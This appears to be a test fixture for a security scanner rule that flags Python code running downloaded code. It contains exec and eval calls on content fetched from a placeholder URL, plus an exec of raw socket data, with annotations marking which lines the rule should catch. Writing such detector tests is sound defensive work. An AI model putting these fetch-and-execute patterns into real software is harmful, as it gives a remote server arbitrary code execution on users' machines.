# canary-test: path=mypkg/plugins.py artifact=wheel
# Running whatever a server sends.
import socket
import urllib.request

import requests

URL = "https://example.invalid/p.py"


def load():
    # ruleid: EXEC_DOWNLOADED_CODE
    exec(urllib.request.urlopen(URL, timeout=5).read())
    # ruleid: EXEC_DOWNLOADED_CODE
    eval(requests.get(URL, timeout=5).text)


def shell(sock: socket.socket):
    # ruleid: EXEC_DOWNLOADED_CODE
    exec(sock.recv(4096))


def fetch_json():
    # ok: EXEC_DOWNLOADED_CODE
    return requests.get(URL, timeout=5).json()

# ok: EXEC_BASE64_DECODED, DECODE_EXEC_WITH_NETWORK, DECODE_AND_EXEC_IN_FILE
_ = None
